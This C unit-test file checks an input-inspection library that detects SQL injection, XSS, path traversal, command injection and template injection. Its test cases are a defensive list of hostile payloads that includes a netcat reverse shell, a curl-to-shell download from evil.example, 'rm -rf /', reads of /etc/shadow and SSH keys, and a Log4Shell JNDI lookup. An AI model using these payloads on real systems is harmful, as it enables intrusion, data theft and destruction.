/* SPDX-License-Identifier: MIT */
/*
 * Unit tests of common/cb-inspect*.c: the corpora of tests/corpus/ (detection and false
 * positive rates, printed and asserted), focused cases of each kind, decoding, the API's
 * edge cases, reentrancy, and the cost per value (printed, not asserted: sanitizers and
 * loaded CI machines make timings meaningless as a gate).
 */
#include <check.h>
#include <jansson.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "common/cb-inspect.h"
#include "common/cb-macro.h"

#define ATTACK_RATE_MIN  0.99
#define BENIGN_RATE_MAX  0.001
#define CORPUS_TIMEOUT_S 60
#define THREADS          4
#define BENCH_REPEAT     16

struct value {
    char *s;
    size_t len;
};

struct corpus {
    struct value *v;
    size_t n;
};

static void corpus_free(struct corpus *c)
{
    for (size_t i = 0; i < c->n; i++) {
        free(c->v[i].s);
    }
    free(c->v);
    *c = (struct corpus){ 0 };
}

static void corpus_add(struct corpus *c, const char *s, size_t len)
{
    struct value *v = realloc(c->v, (c->n + 1) * sizeof *v);

    ck_assert_ptr_nonnull(v);
    c->v = v;
    c->v[c->n].s = malloc(len + 1);
    ck_assert_ptr_nonnull(c->v[c->n].s);
    memcpy(c->v[c->n].s, s, len);
    c->v[c->n].s[len] = '\0';
    c->v[c->n++].len = len;
}

/* The format of tests/corpus/gen-corpus.py: '#' comments, json:"..." lines, else literal. */
static void corpus_load(struct corpus *c, const char *name)
{
    const char *dir = getenv("CB_SOURCE_DIR");
    CB_CLEANUP(cb_freep) char *line = NULL;
    char path[4096];
    size_t cap = 0;
    ssize_t n;
    FILE *f;

    snprintf(path, sizeof path, "%s/tests/corpus/%s", dir ? dir : ".", name);
    f = fopen(path, "re");
    ck_assert_msg(f, "cannot open %s (run from the repository root or set CB_SOURCE_DIR)", path);
    while ((n = getline(&line, &cap, f)) >= 0) {
        json_t *j;

        if (n > 0 && line[n - 1] == '\n') {
            line[--n] = '\0';
        }
        if (n == 0 || line[0] == '#') {
            continue;
        }
        if (strncmp(line, "json:", 5) != 0) {
            corpus_add(c, line, (size_t)n);
            continue;
        }
        j = json_loads(line + 5, JSON_DECODE_ANY | JSON_ALLOW_NUL, NULL);
        ck_assert_msg(json_is_string(j), "bad json: line in %s: %s", name, line);
        corpus_add(c, json_string_value(j), json_string_length(j));
        json_decref(j);
    }
    fclose(f);
    ck_assert_uint_gt(c->n, 0);
}

static size_t count_flagged(const struct corpus *c, bool print_flagged, bool print_clean)
{
    size_t flagged = 0;

    for (size_t i = 0; i < c->n; i++) {
        struct cb_inspect_finding f;
        int r = cb_inspect_text(c->v[i].s, c->v[i].len, &f);

        ck_assert_int_ge(r, 0);
        flagged += r == 1;
        if (r == 1 && print_flagged) {
            printf("  refused (%s: %s): %s\n", cb_inspect_kind_to_string(f.kind), f.reason,
                   c->v[i].s);
        } else if (r == 0 && print_clean) {
            printf("  passed: %s\n", c->v[i].s);
        }
    }
    return flagged;
}

START_TEST(test_cb_inspect_corpus_rates)
{
    struct corpus attacks = { 0 }, benign = { 0 };
    size_t hit, false_pos;
    double attack_rate, benign_rate;

    corpus_load(&attacks, "attacks.txt");
    corpus_load(&benign, "benign.txt");
    ck_assert_uint_ge(attacks.n, 500);
    ck_assert_uint_ge(benign.n, 2000);

    hit = count_flagged(&attacks, false, true);
    false_pos = count_flagged(&benign, true, false);
    attack_rate = (double)hit / (double)attacks.n;
    benign_rate = (double)false_pos / (double)benign.n;
    printf("cb-inspect corpus: attacks refused %zu/%zu (%.2f%%), benign refused %zu/%zu "
           "(%.3f%%)\n",
           hit, attacks.n, 100 * attack_rate, false_pos, benign.n, 100 * benign_rate);

    ck_assert_msg(attack_rate >= ATTACK_RATE_MIN, "attack detection %.2f%% < 99%%",
                  100 * attack_rate);
    ck_assert_msg(benign_rate <= BENIGN_RATE_MAX, "false positives %.3f%% > 0.1%%",
                  100 * benign_rate);
    corpus_free(&attacks);
    corpus_free(&benign);
}
END_TEST

static int64_t now_ns(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
}

static int cmp_i64(const void *a, const void *b)
{
    int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;

    return (x > y) - (x < y);
}

/* ns per value: each value inspected BENCH_REPEAT times, the median over all values. */
START_TEST(test_cb_inspect_cost_per_value)
{
    struct corpus all = { 0 };
    int64_t *ns;
    double total = 0;

    corpus_load(&all, "benign.txt");
    corpus_load(&all, "attacks.txt");
    ns = calloc(all.n, sizeof *ns);
    ck_assert_ptr_nonnull(ns);
    for (size_t i = 0; i < all.n; i++) {
        int64_t start = now_ns();
        int bad = 0;

        /* no ck_assert inside the timed loop: each one costs Check a message to its parent */
        for (int k = 0; k < BENCH_REPEAT; k++) {
            bad |= cb_inspect_text(all.v[i].s, all.v[i].len, NULL) < 0;
        }
        ns[i] = (now_ns() - start) / BENCH_REPEAT;
        total += (double)ns[i];
        ck_assert_int_eq(bad, 0);
    }
    qsort(ns, all.n, sizeof *ns, cmp_i64);
    printf("cb-inspect cost: median %lld ns/value, p90 %lld ns, p99 %lld ns, mean %.0f ns "
           "(%zu values)\n",
           (long long)ns[all.n / 2], (long long)ns[all.n * 9 / 10], (long long)ns[all.n * 99 / 100],
           total / (double)all.n, all.n);
    free(ns);
    corpus_free(&all);
}
END_TEST

struct expect {
    const char *s;
    enum cb_inspect_kind kind;
};

static void check_expect(const struct expect *e)
{
    struct cb_inspect_finding f = { .kind = _CB_INSPECT_INVALID };
    int r = cb_inspect_text(e->s, strlen(e->s), &f);

    ck_assert_msg(r == (e->kind != CB_INSPECT_CLEAN), "'%s': expected %s, got %s (%s)", e->s,
                  cb_inspect_kind_to_string(e->kind), cb_inspect_kind_to_string(f.kind),
                  f.reason ? f.reason : "-");
    ck_assert_msg(f.kind == e->kind, "'%s': expected %s, got %s (%s)", e->s,
                  cb_inspect_kind_to_string(e->kind), cb_inspect_kind_to_string(f.kind),
                  f.reason ? f.reason : "-");
    if (r == 1) {
        ck_assert_ptr_nonnull(f.reason);
        ck_assert_uint_le(f.offset, strlen(e->s));
        ck_assert_ptr_null(strstr(f.reason, e->s)); /* never echoes the value */
    } else {
        ck_assert_ptr_null(f.reason);
    }
}

static void check_all(const struct expect *cases, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        check_expect(&cases[i]);
    }
}

START_TEST(test_cb_inspect_sql)
{
    static const struct expect cases[] = {
        { "' OR 1=1--", CB_INSPECT_SQL_INJECTION },
        { "' OR 'a'='a", CB_INSPECT_SQL_INJECTION },
        { "admin'--", CB_INSPECT_SQL_INJECTION },
        { "admin' #", CB_INSPECT_SQL_INJECTION },
        { "'; DROP TABLE users; --", CB_INSPECT_SQL_INJECTION },
        { "' UNION SELECT username, password FROM users--", CB_INSPECT_SQL_INJECTION },
        { "1 UNION SELECT 1,2,3", CB_INSPECT_SQL_INJECTION },
        { "1 OR 1=1", CB_INSPECT_SQL_INJECTION },
        { "1) OR (1=1", CB_INSPECT_SQL_INJECTION },
        { "' AND SLEEP(5)--", CB_INSPECT_SQL_INJECTION },
        { "1 AND BENCHMARK(5000000,MD5(1))", CB_INSPECT_SQL_INJECTION },
        { "'; WAITFOR DELAY '0:0:5'--", CB_INSPECT_SQL_INJECTION },
        { "'||pg_sleep(5)--", CB_INSPECT_SQL_INJECTION },
        { "\" or \"\"=\"", CB_INSPECT_SQL_INJECTION },
        { "'/**/OR/**/1=1--", CB_INSPECT_SQL_INJECTION },
        { "' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3--", CB_INSPECT_SQL_INJECTION },
        { "SELECT * FROM users WHERE id=1 OR 1=1", CB_INSPECT_SQL_INJECTION },
        { "DROP TABLE users;", CB_INSPECT_SQL_INJECTION },
        { "'-'", CB_INSPECT_SQL_INJECTION },
        { "O'Brien' OR '1'='1", CB_INSPECT_SQL_INJECTION },
        { "O'Brien", CB_INSPECT_CLEAN },
        { "Don't stop", CB_INSPECT_CLEAN },
        { "It's 5 o'clock", CB_INSPECT_CLEAN },
        { "SELECT the best option from the menu", CB_INSPECT_CLEAN },
        { "Select one from the list", CB_INSPECT_CLEAN },
        { "Drop off at 5; pick up at 6", CB_INSPECT_CLEAN },
        { "Drop table 5 from the reservation", CB_INSPECT_CLEAN },
        { "price: $5 or 10% off", CB_INSPECT_CLEAN },
        { "1=1 is true in maths", CB_INSPECT_CLEAN },
        { "3 > 2 and 2 > 1", CB_INSPECT_CLEAN },
        { "Please update the table", CB_INSPECT_CLEAN },
        { "and/or", CB_INSPECT_CLEAN },
        { "phone=555", CB_INSPECT_CLEAN },
        { "l'été", CB_INSPECT_CLEAN },
        { "Val-d'Or 87881", CB_INSPECT_CLEAN },
        { "Jones' #1 fan", CB_INSPECT_CLEAN },
        { "the Jones' -- our neighbours", CB_INSPECT_CLEAN },
        { "Rock 'n' roll", CB_INSPECT_CLEAN },
        { "'yes' or 'no'", CB_INSPECT_CLEAN },
        { "He said \"yes\" or \"no\"", CB_INSPECT_CLEAN },
        { "12\" or 15\" screens", CB_INSPECT_CLEAN },
        { "European Union select committee", CB_INSPECT_CLEAN },
        { "Pick one; select 2", CB_INSPECT_CLEAN },
        { "1 or 2 items", CB_INSPECT_CLEAN },
        { "john.o'brien@example.com", CB_INSPECT_CLEAN },
    };

    check_all(cases, CB_ELEMENTSOF(cases));
}
END_TEST

START_TEST(test_cb_inspect_xss)
{
    static const struct expect cases[] = {
        { "<script>alert('xss')</script>", CB_INSPECT_XSS },
        { "<img src=x onerror=alert(1)>", CB_INSPECT_XSS },
        { "<svg/onload=alert(1)>", CB_INSPECT_XSS },
        { "<iframe src=javascript:alert(1)>", CB_INSPECT_XSS },
        { "<iframe src=\"http://evil.example/\">", CB_INSPECT_XSS },
        { "<base href=\"http://evil.example/\">", CB_INSPECT_XSS },
        { "</textarea><script>alert(1)</script>", CB_INSPECT_XSS },
        { "<a href=\"jav\tascript:alert(1)\">x</a>", CB_INSPECT_XSS },
        { "<div style=\"width: expression(alert(1))\">", CB_INSPECT_XSS },
        { "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">", CB_INSPECT_XSS },
        { "javascript:alert(document.cookie)", CB_INSPECT_XSS },
        { "data:text/html;base64,PHNjcmlwdD4=", CB_INSPECT_XSS },
        { "\" onmouseover=\"alert(1)", CB_INSPECT_XSS },
        { "';alert(1)//", CB_INSPECT_XSS },
        { "<scr<script>ipt>alert(1)</scr</script>ipt>", CB_INSPECT_XSS },
        { "a < b and c > d", CB_INSPECT_CLEAN },
        { "3 < 5", CB_INSPECT_CLEAN },
        { "<3", CB_INSPECT_CLEAN },
        { "x<y", CB_INSPECT_CLEAN },
        { "Use the <Enter> key", CB_INSPECT_CLEAN },
        { "<b>bold</b>", CB_INSPECT_CLEAN },
        { "List<Object> items", CB_INSPECT_CLEAN },
        { "<a href=\"https://example.com/terms\">Terms</a>", CB_INSPECT_CLEAN },
        { "JavaScript: The Good Parts", CB_INSPECT_CLEAN },
        { "online=yes", CB_INSPECT_CLEAN },
        { "Note: onload time was 5s", CB_INSPECT_CLEAN },
        { "color: expression of joy", CB_INSPECT_CLEAN },
        { "😀 I <3 NY", CB_INSPECT_CLEAN },
    };

    check_all(cases, CB_ELEMENTSOF(cases));
}
END_TEST

START_TEST(test_cb_inspect_path)
{
    static const struct expect cases[] = {
        { "../../../etc/passwd", CB_INSPECT_PATH_TRAVERSAL },
        { "../etc/passwd", CB_INSPECT_PATH_TRAVERSAL },
        { "..\\..\\..\\windows\\win.ini", CB_INSPECT_PATH_TRAVERSAL },
        { "....//....//....//etc/passwd", CB_INSPECT_PATH_TRAVERSAL },
        { "..;/..;/..;/x", CB_INSPECT_PATH_TRAVERSAL },
        { "/var/www/html/../../../etc/passwd", CB_INSPECT_PATH_TRAVERSAL },
        { "../../.ssh/id_rsa", CB_INSPECT_PATH_TRAVERSAL },
        { "C:\\dir\\file", CB_INSPECT_CLEAN },
        { "/home/user/report.xlsx", CB_INSPECT_CLEAN },
        { "/etc/passwd", CB_INSPECT_CLEAN },
        { "...", CB_INSPECT_CLEAN },
        { "Wait... what?", CB_INSPECT_CLEAN },
        { "version 1.2..3", CB_INSPECT_CLEAN },
        { "../shared/template.docx", CB_INSPECT_CLEAN },
        { "See ../../docs/guide.md", CB_INSPECT_CLEAN },
        { "cd ../..", CB_INSPECT_CLEAN },
    };

    check_all(cases, CB_ELEMENTSOF(cases));
}
END_TEST

START_TEST(test_cb_inspect_command)
{
    static const struct expect cases[] = {
        { "; rm -rf /", CB_INSPECT_COMMAND_INJECTION },
        { "| nc 10.0.0.1 4444 -e /bin/sh", CB_INSPECT_COMMAND_INJECTION },
        { "`whoami`", CB_INSPECT_COMMAND_INJECTION },
        { "$(cat /etc/passwd)", CB_INSPECT_COMMAND_INJECTION },
        { "&& curl http://evil.example/x.sh | sh", CB_INSPECT_COMMAND_INJECTION },
        { "127.0.0.1; cat /etc/shadow", CB_INSPECT_COMMAND_INJECTION },
        { "; sleep 5", CB_INSPECT_COMMAND_INJECTION },
        { "a;cat${IFS}/etc/passwd", CB_INSPECT_COMMAND_INJECTION },
        { "x\nid", CB_INSPECT_COMMAND_INJECTION },
        { "<!--#exec cmd=\"id\"-->", CB_INSPECT_COMMAND_INJECTION },
        { "Tom & Jerry", CB_INSPECT_CLEAN },
        { "AT&T", CB_INSPECT_CLEAN },
        { "50% | 60%", CB_INSPECT_CLEAN },
        { "R&D; cat food", CB_INSPECT_CLEAN },
        { "Meeting; sleep 5 minutes after", CB_INSPECT_CLEAN },
        { "set the table & rm 101", CB_INSPECT_CLEAN },
        { "call back; /home/user", CB_INSPECT_CLEAN },
        { "Run `make install` first", CB_INSPECT_CLEAN },
        { "$(document).ready", CB_INSPECT_CLEAN },
        { "id card; ID: 5", CB_INSPECT_CLEAN },
    };

    check_all(cases, CB_ELEMENTSOF(cases));
}
END_TEST

START_TEST(test_cb_inspect_template)
{
    static const struct expect cases[] = {
        { "{{7*7}}", CB_INSPECT_TEMPLATE_INJECTION },
        { "{{''.__class__.__mro__[2].__subclasses__()}}", CB_INSPECT_TEMPLATE_INJECTION },
        { "${7*7}", CB_INSPECT_TEMPLATE_INJECTION },
        { "${jndi:ldap://evil.example/a}", CB_INSPECT_TEMPLATE_INJECTION },
        { "${${::-j}ndi:x}", CB_INSPECT_TEMPLATE_INJECTION },
        { "#{7*7}", CB_INSPECT_TEMPLATE_INJECTION },
        { "<%= 7*7 %>", CB_INSPECT_TEMPLATE_INJECTION },
        { "{% import os %}", CB_INSPECT_TEMPLATE_INJECTION },
        { "{{name}}", CB_INSPECT_CLEAN },
        { "Dear {{ user.first_name | title }},", CB_INSPECT_CLEAN },
        { "${AMOUNT}", CB_INSPECT_CLEAN },
        { "${VAR:-default}", CB_INSPECT_CLEAN },
        { "#{order_id}", CB_INSPECT_CLEAN },
        { "<%= name %>", CB_INSPECT_CLEAN },
        { "{{ items[0] }}", CB_INSPECT_CLEAN },
    };

    check_all(cases, CB_ELEMENTSOF(cases));
}
END_TEST

START_TEST(test_cb_inspect_decoding)
{
    static const struct expect cases[] = {
        { "%27%20OR%201%3D1--", CB_INSPECT_SQL_INJECTION },
        { "%2527%2520OR%25201%253D1--", CB_INSPECT_SQL_INJECTION },
        { "%27+OR+1%3D1--", CB_INSPECT_SQL_INJECTION },
        { "&#39; OR 1=1--", CB_INSPECT_SQL_INJECTION },
        { "&#x27; OR &#x27;a&#x27;=&#x27;a", CB_INSPECT_SQL_INJECTION },
        { "\\x27 OR \\x271\\x27=\\x271", CB_INSPECT_SQL_INJECTION },
        { "&lt;script&gt;alert(1)&lt;/script&gt;", CB_INSPECT_XSS },
        { "&#x3c;svg onload=alert(1)&#x3e;", CB_INSPECT_XSS },
        { "%3Cscript%3Ealert(1)%3C%2Fscript%3E", CB_INSPECT_XSS },
        { "\\u003cscript\\u003ealert(1)", CB_INSPECT_XSS },
        { "\xef\xbc\x9cscript\xef\xbc\x9e", CB_INSPECT_XSS }, /* fullwidth < > */
        { "..%2f..%2f..%2fetc%2fpasswd", CB_INSPECT_PATH_TRAVERSAL },
        { "..%252f..%252f..%252fetc", CB_INSPECT_PATH_TRAVERSAL },
        { "..%c0%af..%c0%af..%c0%afetc", CB_INSPECT_PATH_TRAVERSAL }, /* overlong '/' */
        { "..%u2215..%u2215..%u2215etc", CB_INSPECT_PATH_TRAVERSAL },
        { "%0aid", CB_INSPECT_COMMAND_INJECTION },
        { "100%25 cotton", CB_INSPECT_CLEAN },
        { "Q&amp;A session", CB_INSPECT_CLEAN },
        { "O%27Brien", CB_INSPECT_CLEAN },
        { "C:\\xampp\\htdocs", CB_INSPECT_CLEAN },
        { "%E2%82%AC5", CB_INSPECT_CLEAN }, /* UTF-8 stays escaped, no damage */
        { "価格：１００円（税込）", CB_INSPECT_CLEAN },
    };
    struct cb_inspect_finding f;

    check_all(cases, CB_ELEMENTSOF(cases));

    ck_assert_int_eq(cb_inspect_text("%27%20OR%201%3D1--", 18, &f), 1);
    ck_assert(f.decoded);
    ck_assert_int_eq(cb_inspect_text("' OR 1=1--", 10, &f), 1);
    ck_assert(!f.decoded);
}
END_TEST

START_TEST(test_cb_inspect_api)
{
    static const char with_nul[] = "abc\0def O'Brien\0";
    struct cb_inspect_finding f = { .kind = CB_INSPECT_XSS };
    size_t big_len = (size_t)64 * 1024;
    char *big;

    ck_assert_str_eq(cb_inspect_kind_to_string(CB_INSPECT_CLEAN), "clean");
    ck_assert_str_eq(cb_inspect_kind_to_string(CB_INSPECT_SQL_INJECTION), "sql_injection");
    ck_assert_str_eq(cb_inspect_kind_to_string(CB_INSPECT_XSS), "xss");
    ck_assert_str_eq(cb_inspect_kind_to_string(CB_INSPECT_PATH_TRAVERSAL), "path_traversal");
    ck_assert_str_eq(cb_inspect_kind_to_string(CB_INSPECT_COMMAND_INJECTION), "command_injection");
    ck_assert_str_eq(cb_inspect_kind_to_string(CB_INSPECT_TEMPLATE_INJECTION),
                     "template_injection");
    ck_assert_ptr_null(cb_inspect_kind_to_string(_CB_INSPECT_MAX));
    ck_assert_ptr_null(cb_inspect_kind_to_string(_CB_INSPECT_INVALID));

    ck_assert_int_eq(cb_inspect_text(NULL, 0, &f), 0);
    ck_assert_int_eq(f.kind, CB_INSPECT_CLEAN);
    ck_assert_int_eq(cb_inspect_text(NULL, 1, &f), -EINVAL);
    ck_assert_int_eq(cb_inspect_text("' OR 1=1--", 10, NULL), 1);

    /* NUL bytes are data: neither a finding nor the end of the value */
    ck_assert_int_eq(cb_inspect_text(with_nul, sizeof with_nul - 1, &f), 0);
    ck_assert_int_eq(cb_inspect_text("x\0' OR 1=1--", 12, &f), 1);

    /* over the stack buffer, with escapes: the heap path of decoding */
    big = malloc(big_len);
    ck_assert_ptr_nonnull(big);
    memset(big, 'a', big_len);
    memcpy(big + big_len - 20, "%3Cscript%3E", 12);
    ck_assert_int_eq(cb_inspect_text(big, big_len, &f), 1);
    ck_assert_int_eq(f.kind, CB_INSPECT_XSS);
    ck_assert(f.decoded);
    memset(big + big_len - 20, '&', 20);
    ck_assert_int_eq(cb_inspect_text(big, big_len, &f), 0);
    free(big);
}
END_TEST

/* Pathological inputs stay linear: a few MiB of separators, quotes and tags. */
START_TEST(test_cb_inspect_large_inputs)
{
    static const char *const units[] = {
        "'",           ";",
        "<a ",         "../",
        "((((",        "{{",
        "' or ",       "; select 1",
        "<%",          "${",
        "{",           "`",
        "$(",          ":",
        "&#",          "%25",
        "';ab(",       "1 or ",
        "<img src=x ", "on",
        "\"",          "' union select (",
    };
    size_t len = (size_t)2 * 1024 * 1024;
    char *s = malloc(len);

    ck_assert_ptr_nonnull(s);
    for (size_t u = 0; u < CB_ELEMENTSOF(units); u++) {
        size_t n = strlen(units[u]);
        int64_t start = now_ns();

        for (size_t i = 0; i < len; i++) {
            s[i] = units[u][i % n];
        }
        ck_assert_int_ge(cb_inspect_text(s, len, NULL), 0);
        ck_assert_msg(now_ns() - start < 10LL * 1000000000, "'%s' x %zu took too long", units[u],
                      len / n);
    }
    free(s);
}
END_TEST

struct thread_arg {
    const struct corpus *c;
    size_t flagged;
};

static void *thread_main(void *p)
{
    struct thread_arg *a = p;

    for (int round = 0; round < 3; round++) {
        a->flagged = 0;
        for (size_t i = 0; i < a->c->n; i++) {
            a->flagged += cb_inspect_text(a->c->v[i].s, a->c->v[i].len, NULL) == 1;
        }
    }
    return NULL;
}

START_TEST(test_cb_inspect_reentrant)
{
    struct corpus attacks = { 0 };
    struct thread_arg args[THREADS];
    pthread_t t[THREADS];
    size_t expected;

    corpus_load(&attacks, "attacks.txt");
    expected = count_flagged(&attacks, false, false);
    for (int i = 0; i < THREADS; i++) {
        args[i] = (struct thread_arg){ .c = &attacks };
        ck_assert_int_eq(pthread_create(&t[i], NULL, thread_main, &args[i]), 0);
    }
    for (int i = 0; i < THREADS; i++) {
        ck_assert_int_eq(pthread_join(t[i], NULL), 0);
        ck_assert_uint_eq(args[i].flagged, expected);
    }
    corpus_free(&attacks);
}
END_TEST

static Suite *inspect_suite(void)
{
    Suite *s = suite_create("cb-inspect");
    TCase *tc;

    tc = tcase_create("kinds");
    tcase_add_test(tc, test_cb_inspect_sql);
    tcase_add_test(tc, test_cb_inspect_xss);
    tcase_add_test(tc, test_cb_inspect_path);
    tcase_add_test(tc, test_cb_inspect_command);
    tcase_add_test(tc, test_cb_inspect_template);
    tcase_add_test(tc, test_cb_inspect_decoding);
    tcase_add_test(tc, test_cb_inspect_api);
    suite_add_tcase(s, tc);

    tc = tcase_create("corpus");
    tcase_set_timeout(tc, CORPUS_TIMEOUT_S);
    tcase_add_test(tc, test_cb_inspect_corpus_rates);
    tcase_add_test(tc, test_cb_inspect_cost_per_value);
    tcase_add_test(tc, test_cb_inspect_large_inputs);
    tcase_add_test(tc, test_cb_inspect_reentrant);
    suite_add_tcase(s, tc);

    return s;
}

int main(void)
{
    SRunner *sr = srunner_create(inspect_suite());
    int failed;

    srunner_run_all(sr, CK_NORMAL);
    failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
